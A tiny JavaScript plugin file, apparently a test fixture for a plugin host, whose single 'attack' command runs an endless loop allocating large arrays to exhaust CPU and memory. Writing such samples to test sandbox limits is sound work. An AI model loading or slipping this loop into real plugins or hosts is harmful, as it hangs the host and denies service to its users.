import { definePlugin, success, failure } from '@marathon/plugin-api';
export default definePlugin({ commands: { attack: (ctx, args) => {
  for (;;) new Array(2e5).fill(0).join();
} } });
